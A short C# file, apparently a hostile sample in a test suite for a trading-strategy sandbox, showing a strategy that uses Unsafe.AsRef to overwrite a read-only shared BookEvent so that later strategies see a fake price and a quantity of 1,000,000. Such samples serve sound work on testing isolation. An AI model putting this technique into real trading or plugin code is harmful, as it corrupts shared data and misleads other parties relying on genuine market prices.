// Abuses: Unsafe.AsRef turns the read-only reference of a callback into a writable one.
// Harm: the event is shared: strategies called after this one see a price and quantity that no venue sent.
// Kind: hurts another slot or the process.
using System;
using System.Collections.Generic;
using System.Linq;
using System.Runtime.CompilerServices;
using System.Threading;
using Strategies.Sdk;

namespace Attacks.UnsafeAsrefOfInAttack;

public sealed class UnsafeAsrefOfInStrategy : Attacker
{
    public override void OnBook(in BookEvent bookEvent)
    {
        Unsafe.AsRef(in bookEvent) = bookEvent with { Price = bookEvent.Price + new Price(Price.Scale), Quantity = 1_000_000 };
        Act(1);
    }
}
